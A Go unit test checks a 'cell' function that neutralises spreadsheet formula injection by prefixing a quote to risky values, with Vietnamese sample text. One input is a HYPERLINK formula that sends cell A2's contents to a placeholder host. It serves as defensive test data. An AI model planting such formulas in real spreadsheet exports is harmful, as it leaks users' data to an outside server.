package bot

import "testing"

func TestCellDefusesFormulas(t *testing.T) {
	tests := map[string]string{
		`=HYPERLINK("http://x/?"&A2,"chi tiết")`: `'=HYPERLINK("http://x/?"&A2,"chi tiết")`,
		"+84 912":         "'+84 912",
		"-1+2":            "'-1+2",
		"@SUM(A1)":        "'@SUM(A1)",
		"\tx":             "'\tx",
		"đã vá 40/42 máy": "đã vá 40/42 máy",
		"":                "",
		"Nguyễn Văn An":   "Nguyễn Văn An",
	}
	for in, want := range tests {
		if got := cell(in); got != want {
			t.Errorf("cell(%q) = %q, want %q", in, got, want)
		}
	}
}
